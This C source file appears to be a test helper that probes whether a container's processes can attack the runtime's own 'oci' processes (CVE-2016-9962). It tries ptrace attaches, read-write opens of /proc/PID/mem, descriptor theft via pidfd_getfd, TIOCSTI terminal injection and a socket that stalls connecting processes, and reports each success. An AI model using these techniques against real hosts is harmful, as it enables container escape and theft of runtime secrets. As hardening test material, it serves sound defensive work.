/*
 * dump - a process of a container that is after the runtime's own processes (CVE-2016-9962), which
 * have names that begin with "oci".
 *
 *	dump watch	tries, until it is killed, to trace them, to read and write their memory,
 *			and to reach what they have open. Prints "tried PID" whenever it has tried
 *			all on one, and "HIT PID NAME" for what it could do.
 *	dump sleep	waits: a victim that nothing protects, as a file "oci-x"
 *	dump deaf PATH	listens on a socket that lets nobody through, so that who connects to it is
 *			held where it is; prints "deaf"
 *	dump type	types into the terminal on standard input (TIOCSTI); prints "errno N"
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum { DESCRIPTORS = 24 };

/* Whether its name is one of ours still: with the exec of the user's program it is fair game. */
static bool is_victim(int pid)
{
	char path[64], name[16] = "";
	int fd;

	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	if (read(fd, name, sizeof name - 1) < 0)
		name[0] = 0;
	close(fd);
	return strncmp(name, "oci", 3) == 0;
}

static void hit(int pid, const char *what)
{
	if (is_victim(pid))
		printf("HIT %d %s\n", pid, what);
}

static void try_open(int pid, const char *name, int flags)
{
	char path[64];
	int fd;

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	fd = open(path, flags | O_CLOEXEC);
	if (fd < 0)
		return;
	hit(pid, name);
	close(fd);
}

static void try_link(int pid, const char *name)
{
	char path[64], target[256];

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	if (readlink(path, target, sizeof target) > 0)
		hit(pid, name);
}

static void try_trace(int pid)
{
	/* Without stopping it. */
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return;
	hit(pid, "ptrace");
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void try_descriptors(int pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	char name[32];

	for (int i = 0; i < DESCRIPTORS; i++) {
		int fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);

		snprintf(name, sizeof name, "fd/%d", i);
		try_link(pid, name);
		if (fd < 0)
			continue;
		hit(pid, "pidfd_getfd");
		close(fd);
	}
	if (pidfd >= 0)
		close(pidfd);
}

static void attack(int pid)
{
	if (!is_victim(pid))
		return;
	try_open(pid, "mem", O_RDWR);
	try_open(pid, "environ", O_RDONLY);
	try_open(pid, "exe", O_RDONLY);
	try_open(pid, "root", O_RDONLY);
	try_open(pid, "cwd", O_RDONLY);
	try_link(pid, "exe");
	try_descriptors(pid);
	try_trace(pid);
	printf("tried %d\n", pid);
}

static void watch(void)
{
	for (;;) {
		DIR *dir = opendir("/proc");

		for (struct dirent *e; dir && (e = readdir(dir));) {
			int pid = atoi(e->d_name);

			if (pid > 0 && pid != getpid())
				attack(pid);
		}
		if (dir)
			closedir(dir);
		fflush(stdout);
	}
}

static int deaf(const char *path)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), fd;

	strncpy(address.sun_path, path, sizeof address.sun_path - 1);
	if (bind(listener, (void *)&address, sizeof address) < 0 || listen(listener, 0) < 0)
		return perror(path), 1;
	do
		fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
	while (connect(fd, (void *)&address, sizeof address) == 0);
	puts("deaf");
	fflush(stdout);
	for (;;)
		pause();
}

static int type(void)
{
	printf("errno %d\n", ioctl(0, TIOCSTI, "x") < 0 ? errno : 0);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "deaf") == 0)
		return deaf(argv[2]);
	if (argc != 2)
		return 2;
	if (strcmp(argv[1], "type") == 0)
		return type();
	if (strcmp(argv[1], "watch") == 0)
		watch();
	for (;;)
		pause();
}
